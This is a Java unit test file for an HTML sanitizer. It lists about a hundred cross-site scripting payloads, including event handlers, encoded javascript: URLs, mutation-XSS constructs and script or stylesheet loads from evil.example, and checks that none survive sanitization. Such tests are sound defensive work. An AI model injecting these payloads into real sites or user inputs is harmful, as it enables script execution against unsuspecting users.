package dev.feedwarden.feed;

import static dev.feedwarden.feed.Bodies.heap;
import static dev.feedwarden.feed.Bodies.safe;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Nothing that runs gets through, whoever wrote it; a second parser is the judge. */
final class SafeHtmlTest {
  /** One to a line. */
  static Stream<String> attacks() {
    return """
    <script>alert(1)</script>
    <SCRIPT SRC=//evil.example/x.js></SCRIPT>
    <scr<script>ipt>alert(1)</scr</script>ipt>
    <script/random>alert(1)</script >
    <script>alert(1)
    <<script>alert(1)//<</script>
    <img src=x onerror=alert(1)>
    <img src=x oNeRrOr = "alert(1)">
    <img/src=x/onerror=alert(1)>
    <img src="x" title="a"onerror=alert(1)>
    <img src='x' alt='`' onerror='alert(1)'>
    <img src=`x` onerror=alert(1)>
    <img "\"><script>alert(1)</script>\">
    <img src=x\fonerror=alert(1)>
    <img src=x\0onerror=alert(1)>
    <img src="javascript:alert(1)">
    <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
    <img src="data:image/png,<script>alert(1)</script>">
    <img srcset="javascript:alert(1) 1x, data:text/html,x 2x">
    <img srcset="https://a.example/x 1x,javascript:alert(1)" src=x>
    <img src=x usemap=#m><map name=m><area href=javascript:alert(1)></map>
    <img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>
    <a href="javascript:alert(1)">x</a>
    <a href="JaVaScRiPt&#58;alert(1)">x</a>
    <a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
    <a href="&#0000106avascript&colon;alert(1)">x</a>
    <a href="java&#9;script:alert(1)">x</a>
    <a href="java&NewLine;script&Tab;:alert(1)">x</a>
    <a href=" &#14; javascript:alert(1)">x</a>
    <a href="\1javascript:alert(1)">x</a>
    <a href="&nbsp;javascript:alert(1)">x</a>
    <a href="java\0script:alert(1)">x</a>
    <a href="vbscript:msgbox(1)">x</a>
    <a href="livescript:x">x</a><a href="mocha:x">x</a>
    <a href="data:text/html,<script>alert(1)</script>">x</a>
    <a href="data:image/png;base64,AAAA">x</a>
    <a href="view-source:javascript:alert(1)">x</a><a href="file:///etc/passwd">y</a>
    <a href="jar:javascript:alert(1)!/">x</a><a href="blob:https://x/1">y</a>
    <a href="https://ok.example/" href="javascript:alert(1)">x</a>
    <a href="javascript:alert(1)" href="https://ok.example/">x</a>
    <a href=//evil.example/ onclick=alert(1) ping=//t.example target=_blank>x</a>
    <a href='x' style='position:fixed;inset:0;background:url(javascript:1)'>x</a>
    <a xlink:href="javascript:alert(1)" xml:base="javascript:">x</a>
    <div style="width:expression(alert(1))">x</div>
    <div style="-moz-binding:url(//evil.example/x.xml#y)" class="admin" id="app">x</div>
    <div hx-get="/admin/delete" hx-trigger="load" data-hx-on:load="alert(1)">x</div>
    <p onmouseover=alert(1) contenteditable autofocus onfocus=alert(1) tabindex=1>x
    <style>@import '//evil.example/x.css';</style><style><img src="</style><img src=x onerror=1>">
    <link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>
    <meta http-equiv=refresh content="0;url=javascript:alert(1)">
    <iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>
    <iframe src="https://youtube.com.evil.example/embed/x"></iframe>
    <iframe src="https://evil.example/youtube.com"><script>alert(1)</script></iframe>
    <object data="data:text/html,x"><param name=x value=y><embed src=x.swf></object>
    <applet code=x.class></applet><embed src="javascript:alert(1)">
    <form action="javascript:alert(1)"><input formaction=javascript:alert(1)><button>go</button></form>
    <form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
    <isindex action=javascript:alert(1) type=image><keygen autofocus onfocus=alert(1)>
    <svg onload=alert(1)><svg/onload=alert(1)>
    <svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
    <svg><style><img src=x onerror=alert(1)></style></svg>
    <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
    <svg:svg onload=alert(1)><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
    <math href="javascript:alert(1)"><mi xlink:href="data:x,alert(1)">x</mi></math>
    <form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
    <noscript><p title="</noscript><img src=x onerror=alert(1)>">
    <noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>
    <noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>
    <textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
    <title><p title="</title><img src=x onerror=alert(1)>"></title>
    <xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
    <listing>&lt;img src=x onerror=alert(1)&gt;</listing><plaintext><img src=x onerror=alert(1)>
    <template><script>alert(1)</script></template><template shadowrootmode=open><img onerror=1 src></template>
    <select><script>alert(1)</script><option><style></option></select><img src=x onerror=alert(1)></style>
    <!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>-->
    <!-- a -- b > <img src=x onerror=alert(1)> --> <!-><img src=x onerror=alert(1)>
    <!--[if gte IE 4]><script>alert(1)</script><![endif]-->
    <![CDATA[<script>alert(1)</script>]]><img src=x onerror=alert(1)>
    <scr<![CDATA[ipt>alert(1)</scr]]>ipt><![CDATA[x]]>
    <?xml version="1.0"?><?import namespace="t"><img src=x onerror=alert(1)?>
    <% <img src=x onerror=alert(1)> %>
    &lt;script&gt;alert(1)&lt;/script&gt;<b title="&lt;img src=x onerror=alert(1)&gt;">x</b>
    &amp;lt;script&amp;gt;alert(1)<p title='"><img src=x onerror=alert(1)>'>
    <b title='a" onmouseover="alert(1)'>x</b><b title=a"onmouseover=alert(1)>x</b>
    <div title="a&quot; onmouseover=&quot;alert(1)">x</div><div title="a&#x2028;" onclick=1>
    <video src=x onerror=alert(1)><source onerror=alert(1) src="javascript:alert(1)"></video>
    <video poster="javascript:alert(1)" controls></video><audio autoplay src=data:audio/mp3,x></audio>
    <table background="javascript:alert(1)"><td background="vbscript:x" onclick=alert(1)>x
    <blockquote cite="javascript:alert(1)"><del cite="data:text/html,x">x</del></blockquote>
    <details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>
    <marquee onstart=alert(1)>x</marquee><layer src=//evil.example/x></layer><bgsound src=javascript:1>
    <frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
    <html onclick=alert(1)><head onclick=1><body onload=alert(1) background=javascript:1>x
    <xml id=x><a><b>&lt;img src=x onerror=alert(1)&gt;</b></a></xml><span datasrc=#x datafld=b>
    <img name=getElementById src=x><a href=x id=location name=body>x</a>
    <x onclick=alert(1)>x</x><custom-element onload=alert(1) style=color:red>x</custom-element>
    <a href="https://user:secret@evil.example/">x</a><a href="http:javascript:alert(1)">x</a>
    <p/onclick=alert(1)/><br onload=alert(1)><hr\13onclick=alert(1)>
    <b/onclick=alert(1)//><i\tonclick\t=\talert(1)>x</i><u\fonclick=alert(1)>x</u>
    """
        .lines();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("attacks")
  void nothing_that_runs_gets_through(String attack) {
    assertThat(Browser.dangers(safe(attack))).isEmpty();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("attacks")
  void nothing_that_runs_gets_out_of_the_place_it_was_put_in(String attack) {
    var around = "<table><tr><td title='x'><p>" + attack + "\"'>--></p></td></tr></table>";

    assertThat(Browser.dangers(safe(around))).isEmpty();
    assertThat(Browser.dangers(safe(safe(attack)))).isEmpty();
  }

  @ParameterizedTest(name = "seed {0}")
  @ValueSource(longs = {1, 2, 3, 4, 5})
  void no_heap_of_markup_runs(long seed) {
    var random = new Random(seed);

    for (int i = 0; i < 1_000; i++) {
      var heap = heap(random, 1 + random.nextInt(40));
      assertThat(Browser.dangers(safe(heap))).as(heap).isEmpty();
    }
  }

  @Test
  void the_judge_sees_danger_where_it_is() {
    assertThat(
            Browser.dangers(
                "<a href=' java&Tab;script:1'></a><p onclick=1><svg></svg>"
                    + "<img src=//x srcset='data:x 1x'><b hx-get=x style=x>"))
        .containsExactly(
            "a href=\" java\tscript:1\"",
            "p onclick=\"1\"",
            "svg",
            "img src=\"//x\"",
            "img srcset=\"data:x 1x\"",
            "b hx-get=\"x\"",
            "b style=\"x\"");
  }
}
